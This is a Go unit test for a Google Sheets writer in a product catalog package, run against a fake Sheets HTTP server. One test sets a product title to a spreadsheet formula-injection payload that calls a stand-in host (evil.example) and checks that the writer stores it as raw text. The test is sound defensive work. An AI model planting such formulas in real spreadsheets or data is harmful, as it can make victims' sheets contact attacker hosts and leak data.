package catalog

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"google.golang.org/api/option"
)

// fakeSheets serves the handful of Values endpoints the writer uses
type fakeSheets struct {
	mu      sync.Mutex
	rows    [][]interface{}
	options []string
}

func (f *fakeSheets) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()

	write := func(v any) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(v)
	}

	switch {
	case r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, ":append"),
		r.Method == http.MethodPut:
		var body struct {
			Values [][]interface{} `json:"values"`
		}
		if err := json.NewDecoder(r.Body).Decode(&body); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		f.options = append(f.options, r.URL.Query().Get("valueInputOption"))
		f.rows = append(f.rows, body.Values...)
		write(map[string]any{"spreadsheetId": "sheet-1"})
	case r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, "/values/1:1"):
		if len(f.rows) == 0 {
			write(map[string]any{"range": "Sheet1!1:1"})
			return
		}
		write(map[string]any{"range": "Sheet1!1:1", "values": f.rows[:1]})
	case r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, "/values/A:A"):
		col := make([][]interface{}, len(f.rows))
		for i, row := range f.rows {
			col[i] = row[:1]
		}
		write(map[string]any{"range": "Sheet1!A:A", "values": col})
	default:
		http.Error(w, "unexpected "+r.Method+" "+r.URL.Path, http.StatusNotFound)
	}
}

func newFakeSheetsWriter(t *testing.T) (*SheetsWriter, *fakeSheets) {
	t.Helper()
	fake := &fakeSheets{}
	srv := httptest.NewServer(fake)
	t.Cleanup(srv.Close)

	w := NewSheetsWriter("", "sheet-1", nil,
		option.WithEndpoint(srv.URL+"/"),
		option.WithHTTPClient(srv.Client()),
	)
	return w, fake
}

func TestSheetsWriterRoundTrip(t *testing.T) {
	ctx := context.Background()
	w, fake := newFakeSheetsWriter(t)

	if err := w.EnsureHeaders(ctx); err != nil {
		t.Fatalf("EnsureHeaders() error = %v", err)
	}
	// second call sees the existing header and writes nothing
	if err := w.EnsureHeaders(ctx); err != nil {
		t.Fatalf("EnsureHeaders() error = %v", err)
	}

	rec := sampleRecord("PROD_1")
	rec.Title = `=IMPORTXML("http://evil.example","//a")`
	if err := w.Append(ctx, rec); err != nil {
		t.Fatalf("Append() error = %v", err)
	}

	count, err := w.Count(ctx)
	if err != nil {
		t.Fatalf("Count() error = %v", err)
	}
	if count != 1 {
		t.Errorf("Count() = %d, want 1", count)
	}

	fake.mu.Lock()
	defer fake.mu.Unlock()

	if len(fake.rows) != 2 {
		t.Fatalf("got %d rows written, want header + 1", len(fake.rows))
	}
	for i, opt := range fake.options {
		if opt != "RAW" {
			t.Errorf("write %d used valueInputOption %q, want RAW", i, opt)
		}
	}
	if fake.rows[0][0] != Headers[0] || len(fake.rows[0]) != len(Headers) {
		t.Errorf("header row = %v", fake.rows[0])
	}
	row := fake.rows[1]
	if len(row) != len(Headers) {
		t.Fatalf("row has %d columns, want %d", len(row), len(Headers))
	}
	if row[0] != "PROD_1" || row[1] != rec.Title {
		t.Errorf("row = %v", row)
	}
}
